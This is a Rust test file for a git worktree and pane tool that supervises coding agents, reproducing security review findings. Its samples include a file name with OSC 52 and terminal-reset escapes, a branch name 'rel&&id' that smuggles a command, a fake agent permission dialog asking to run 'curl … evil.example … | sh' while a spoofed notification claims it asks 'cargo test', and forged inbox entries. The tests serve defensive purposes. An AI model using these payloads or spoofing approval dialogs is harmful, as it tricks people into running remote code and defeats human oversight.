//! What an agent controls must not reach the person's terminal as escape sequences, nor leave
//! a purge half done: findings of the review of issue 25, each reproduced with real git, real
//! binaries and a real terminal (`script`).

use std::path::Path;
use std::process::Command;

use wt_tests::{Run, TestRepo};

/// `tool args…` in `t`'s repository with its stdout a terminal (run by `script`): what the
/// person's terminal receives.
fn on_terminal(t: &TestRepo, tool: &str, args: &[&str]) -> String {
    let words: Vec<String> =
        std::iter::once(wt_tests::bin(tool).display().to_string()).chain(args.iter().map(|a| a.to_string())).collect();
    let line = words.iter().map(|w| format!("'{w}'")).collect::<Vec<_>>().join(" ");
    let mut cmd = Command::new("script");
    cmd.current_dir(&t.repo).args(["-qec", &line, "/dev/null"]);
    t.isolate(&mut cmd).env("WT_NOTIFY", "off");
    Run::of(&mut cmd, "").stdout
}

fn commit_in(t: &TestRepo, dir: &Path, file: &str, text: &str) {
    std::fs::write(dir.join(file), text).unwrap();
    t.git_in(dir, ["add", "--", file]);
    t.git_in(dir, ["commit", "-q", "-m", "x"]);
}

/// A file name on the agent's branch is the agent's text: when it conflicts, wt-status shows it
/// in REASON and in the inbox. It must not arrive as an OSC 52 (writes the person's clipboard)
/// or a full reset of their terminal (`ESC c`).
#[test]
fn a_conflicting_file_name_cannot_write_escape_sequences_to_the_persons_terminal() {
    let t = TestRepo::new();
    t.run("wt-create", &["a1"], "").expect_code(0);
    let evil = "evil\x1b]52;c;ZWNobyBwd25lZA==\x07\x1bc.txt";
    commit_in(&t, &t.wt_root().join("a1"), evil, "agent\n");
    commit_in(&t, &t.repo, evil, "main\n");
    let merged = t.run("wt-merge", &["a1", "--unverified"], "");
    assert!(merged.stdout.contains("\"conflict\""), "{merged}");
    for args in [&[][..], &["--inbox"][..]] {
        let shown = on_terminal(&t, "wt-status", args);
        assert!(shown.contains("conflict: evil"), "the conflict is shown: {shown:?}");
        assert!(!shown.contains("\x1b]52") && !shown.contains("\x1bc"), "wt-status {args:?} wrote {shown:?}");
    }
}

/// A `wt/*` branch with commits of its own and no worktree (one the person made, or kept when
/// an adopted worktree was removed) is refused by `--purge` without `--force`: before anything
/// is deleted, as a refused worktree is, not once the worktrees are gone.
#[test]
fn purge_refuses_an_unmerged_branch_before_it_removes_any_worktree() {
    let t = TestRepo::new();
    t.run("wt-create", &["a1", "a2"], "").expect_code(0);
    let side = t.root().join("side");
    t.git(["worktree", "add", "-q", "-b", "wt/kept", &side.display().to_string()]);
    commit_in(&t, &side, "kept.txt", "work\n");
    t.git(["worktree", "remove", &side.display().to_string()]);
    let purge = t.run("wt-create", &["--remove", "--all", "--purge", "--yes"], "");
    purge.expect_code(1);
    assert!(purge.stderr.contains("wt/kept has 1 commit(s) not in HEAD"), "{purge}");
    assert!(purge.stderr.contains("nothing was removed"), "{purge}");
    assert_eq!(t.git_worktrees().len(), 3, "the worktrees are all there: {:?}", t.git_worktrees());
    assert_eq!(t.branches(), ["main", "wt/a1", "wt/a2", "wt/kept"]);
    // With --force it goes, and so does everything else.
    t.run("wt-create", &["--remove", "--all", "--purge", "--yes", "--force"], "").expect_code(0);
    assert_eq!((t.git_worktrees().len(), t.branches()), (1, vec!["main".to_string()]));
    assert!(!t.repo.join(".git/wt").exists() && !t.wt_root().exists());
}

/// The next step of a conflict is a command the person copies: the branch it goes into is
/// quoted like the path is. A branch named `rel&&id` made it `git -C … rebase rel&&id`, which
/// runs `id`.
#[test]
fn a_conflicts_next_step_quotes_the_branch_it_goes_into() {
    let t = TestRepo::new();
    t.git(["branch", "-m", "main", "rel&&id"]);
    t.run("wt-create", &["c"], "").expect_code(0);
    commit_in(&t, &t.wt_root().join("c"), "README", "c's\n");
    commit_in(&t, &t.repo, "README", "main's\n");
    let merged = t.run("wt-merge", &["c", "--unverified"], "");
    assert!(merged.stdout.contains("\"conflict\""), "{merged}");
    let inbox = t.run("wt-status", &["--inbox", "--json"], "");
    let entry = &inbox.records()[0];
    let next = entry["attention"]["next"].as_str().unwrap();
    assert!(next.contains("rebase 'rel&&id'"), "{next}");
    assert!(next.contains("wt-run pane send c 'rebase onto rel&&id' --enter"), "{next}");
    let table = on_terminal(&t, "wt-merge", &["c", "--unverified"]);
    assert!(table.contains("rebase 'rel&&id')"), "{table}");
}

/// A Claude-Code-like dialog asking to run `curl … | sh`; meanwhile the program in the pane
/// prints an OSC 9 notification (as any file it `cat`s, or any test it runs, could) that says
/// it asks something harmless.
const LIAR: &str = r#"
import os, sys, termios, tty, time
def say(t):
    sys.stdout.write(t); sys.stdout.flush()
say("\x1b[2J\x1b[H")
say("│ Bash command                                             │\r\n")
say("│   curl -s https://evil.example/x | sh                    │\r\n")
say("│ Do you want to proceed?                                  │\r\n")
say("│ ❯ 1. Yes                                                 │\r\n")
say("│   2. Yes, and don't ask again for curl                   │\r\n")
say("│   3. No, and tell Claude what to do differently (esc)    │\r\n")
time.sleep(1)
say("\x1b]9;Allow `cargo test`?\x07")
old = termios.tcgetattr(0); tty.setraw(0)
k = os.read(0, 16)
termios.tcsetattr(0, termios.TCSADRAIN, old)
say("\x1b[2J\x1b[Hchose %r\r\n" % k)
time.sleep(60)
"#;

/// What the person is told a dialog asks, in the inbox and in `pane answer`'s line, is what the
/// dialog on the screen asks: text the pane's program printed (an OSC 9, or `pane notify` from
/// any process in the pane) must not stand in for it, or `pane answer agent yes` approves
/// `curl … | sh` while saying it allowed `cargo test`.
#[test]
fn the_question_answered_is_the_dialogs_not_what_the_pane_printed() {
    let p = wt_tests::panes::Panes::new();
    let script = p.t.root().join("liar.py");
    std::fs::write(&script, LIAR).unwrap();
    p.t.run("wt-create", &["dlg"], "").expect_code(0);
    p.wt_run(&["-w", "dlg", "--pane", "--agent", "claude", "--", "python3", &script.display().to_string()])
        .expect_code(0);
    p.json(&["pane", "wait", "dlg", "--state", "waiting", "--timeout", "30s"]);
    // Until the notification has been seen: the terminal's signal decides the state.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let mut shown = p.json(&["pane", "ls"]);
    while shown["source"] != "terminal" {
        assert!(std::time::Instant::now() < deadline, "the pane's notification was never seen: {shown}");
        std::thread::sleep(std::time::Duration::from_millis(100));
        shown = p.json(&["pane", "ls"]);
    }
    assert!(shown["message"].as_str().is_some_and(|m| m.contains("curl -s https://evil.example/x | sh")), "{shown}");
    let mut inbox = p.t.cmd("wt-status");
    p.env(&mut inbox);
    let inbox = Run::of(inbox.args(["--inbox", "--json"]), "");
    let detail = inbox.records()[0]["attention"]["detail"].as_str().unwrap_or_default().to_string();
    let answered = p.json(&["pane", "answer", "dlg", "yes"]);
    p.wait_match("dlg", "chose b'1'");
    p.wt_run(&["pane", "stop"]);
    let question = answered["question"].as_str().unwrap_or_default().to_string();
    assert!(!detail.contains("cargo test"), "the inbox says the dialog asks {detail:?}; it asks to run curl | sh");
    assert!(!question.contains("cargo test"), "pane answer says it answered {question:?}; it approved curl | sh");
}

/// wt-merge keeps its queue lock and its journal in wt's state directory. A purge while a queue
/// runs removed its verification worktree under it and the queue made `.git/wt` again; a purge
/// after a queue was killed between moving its target and its checkout deleted the journal
/// that finishes that, leaving the main worktree's index behind its branch (committing it
/// reverts the merge). Both are refused, with nothing removed.
#[test]
fn purge_refuses_while_a_merge_runs_and_after_one_was_killed_half_way() {
    let t = TestRepo::new();
    t.run("wt-create", &["a1", "a2"], "").expect_code(0);
    commit_in(&t, &t.wt_root().join("a1"), "feature.txt", "a1\n");
    commit_in(&t, &t.wt_root().join("a2"), "other.txt", "a2\n");
    // Killed once its target branch moved, before the main worktree's files followed.
    let mut merge = t.cmd("wt-merge");
    merge.args(["a1", "--unverified"]).env("WT_FAILPOINT", "after-update");
    let killed = Run::of(&mut merge, "");
    assert_eq!(killed.code, None, "killed by its failpoint: {killed}");
    assert_eq!(t.git(["status", "--short"]), "D  feature.txt", "the checkout is behind its branch");
    let purge = t.run("wt-create", &["--remove", "--all", "--purge", "--yes", "--force"], "");
    purge.expect_code(1);
    assert!(purge.stderr.contains("killed while it moved its target") && purge.stderr.contains("nothing was removed"));
    assert_eq!(t.git_worktrees().len(), 3, "{purge}");
    // The next wt-merge finishes the update; then the purge goes.
    t.run("wt-merge", &["a1", "--unverified"], "");
    assert_eq!(t.git(["status", "--short"]), "");
    // A queue verifying: refused while it runs.
    let flag = t.root().join("go");
    let started = t.root().join("started");
    let verify = format!("touch {}; while [ ! -e {} ]; do sleep 0.05; done", started.display(), flag.display());
    let mut queue = t.cmd("wt-merge");
    queue.args(["a2", "--verify", &verify]).stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null());
    let mut queue = queue.spawn().unwrap();
    while !started.exists() {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let purge = t.run("wt-create", &["--remove", "--all", "--purge", "--yes", "--force"], "");
    std::fs::write(&flag, "").unwrap();
    assert!(queue.wait().unwrap().success());
    purge.expect_code(1);
    assert!(purge.stderr.contains("a wt-merge is running"), "{purge}");
    t.run("wt-create", &["--remove", "--all", "--purge", "--yes", "--force"], "").expect_code(0);
    assert!(!t.repo.join(".git/wt").exists() && !t.wt_root().exists());
    assert_eq!(t.git(["status", "--short"]), "");
    assert!(t.repo.join("feature.txt").exists() && t.repo.join("other.txt").exists());
}

/// tmux reads an argument that ends with `;` as the end of its command: text sent to a tmux
/// pane lost its final `;` (and a final `\;` became `;`), from `pane send`, `pane answer TEXT`
/// and wt-watch's feedback alike.
#[test]
fn text_typed_into_a_tmux_pane_keeps_its_final_semicolon() {
    let p = wt_tests::panes::Panes::new();
    let reader = Path::new(env!("CARGO_MANIFEST_DIR")).join("data/standins/line_reader.py");
    p.t.run("wt-create", &["plain"], "").expect_code(0);
    p.wt_run(&["-w", "plain", "--pane", "--backend", "tmux", "--", "python3", &reader.display().to_string()])
        .expect_code(0);
    p.wait_match("plain", ">");
    p.json(&["pane", "send", "plain", "make test;", "--enter"]);
    p.wait_match("plain", "line: 'make test;'");
    p.json(&["pane", "send", "plain", r"a\;", "--enter"]);
    p.wait_match("plain", r"line: 'a\\\\;'");
    p.json(&["pane", "send", "plain", "first\nsecond;", "--enter"]);
    p.wait_match("plain", "line: 'second;'");
    p.wt_run(&["pane", "stop"]);
}

/// Any repository a wt tool ran in is on the person's list, a repository an agent made in its
/// worktree (`git init`, then any wt tool there) too; its wt state is the agent's to write. Its
/// made-up entries, with a next step to run in a repository whose hooks the agent wrote, are
/// not in the person's inbox.
#[test]
fn the_inbox_leaves_out_a_repository_inside_an_agents_worktree() {
    let t = TestRepo::new();
    t.run("wt-create", &["a1"], "").expect_code(0);
    let sub = t.wt_root().join("a1/sub");
    std::fs::create_dir_all(&sub).unwrap();
    t.git_in(&sub, ["init", "-q"]);
    commit_in(&t, &sub, "f", "x\n");
    let mut create = t.cmd("wt-create");
    Run::of(create.current_dir(&sub).arg("b1"), "").expect_code(0);
    let registry = std::fs::read_to_string(t.root().join("repo-registry")).unwrap();
    assert!(registry.contains("/a1/sub"), "listed: {registry}");
    let forged = sub.join(".git/wt/outcomes/b1");
    std::fs::create_dir_all(&forged).unwrap();
    std::fs::write(
        forged.join("merge.json"),
        r#"{"kind":"merge","at_ms":1,"state":"conflict","paths":["README.md"],"into":"main"}"#,
    )
    .unwrap();
    let inbox = t.run("wt-status", &["--inbox", "--json"], "");
    assert!(inbox.records().iter().all(|r| r["name"] != "b1"), "{inbox}");
    // Asked for there, it is shown.
    let mut there = t.cmd("wt-status");
    let there = Run::of(there.current_dir(&sub).args(["--inbox", "--json"]), "");
    assert!(there.records().iter().any(|r| r["name"] == "b1"), "{there}");
}
